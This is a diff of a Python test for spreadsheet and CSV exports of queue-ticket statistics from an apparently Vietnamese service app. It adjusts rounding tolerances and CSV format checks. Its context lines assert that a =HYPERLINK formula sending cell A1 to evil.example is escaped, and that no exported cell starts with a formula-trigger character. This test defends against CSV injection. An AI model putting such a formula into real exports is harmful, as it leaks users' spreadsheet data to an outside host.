@@ -124,8 +124,9 @@ def test_exports_read_back_with_the_right_figures(app: Any, client: Any) -> None
     header = [c.value for c in summary[4]]
     row = dict(zip(header, [c.value for c in summary[5]], strict=True))
     assert row["Số phiếu cấp"] == 120 and row["Vắng mặt"] == key["missed"]
-    assert row["Chờ TB (phút)"] == pytest.approx(key["wait"]["avg"], abs=0.01)
-    assert row["Tỷ lệ chờ đạt chuẩn"] == pytest.approx(key["service_level"], abs=1e-4)
+    # the digits the page shows: minutes to 0.1, shares to 0.1 %
+    assert row["Chờ TB (phút)"] == pytest.approx(key["wait"]["avg"], abs=0.05 + 0.01)
+    assert row["Tỷ lệ chờ đạt chuẩn"] == pytest.approx(key["service_level"], abs=5e-4 + 1e-4)
     # the breakdown and heat-map sheets agree with the answer key too
     by_field = _sheet_rows(book["Theo lĩnh vực"])
     assert sum(r["Số phiếu cấp"] for r in by_field) == 120
@@ -140,11 +141,12 @@ def test_exports_read_back_with_the_right_figures(app: Any, client: Any) -> None
 
     res = client.get(base + "&format=csv", headers=manager)
     assert res.status_code == 200 and res.headers["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(res.data.decode("utf-8-sig"))))
+    assert res.data.startswith("\ufeff".encode())  # the BOM: Excel reads UTF-8
+    rows = list(csv.reader(io.StringIO(res.data.decode("utf-8-sig")), delimiter=";"))
     start = next(i for i, r in enumerate(rows) if r and r[0] == "Toàn đơn vị")
     line = dict(zip(rows[start], rows[start + 1], strict=True))
     assert line["Số phiếu cấp"] == "120"
-    assert float(line["Chờ P90 (phút)"]) == pytest.approx(key["wait"]["p90"])
+    assert float(line["Chờ P90 (phút)"].replace(",", ".")) == pytest.approx(key["wait"]["p90"], abs=0.06)
     flat = [v for r in rows for v in r]
     assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in flat
     assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in flat)
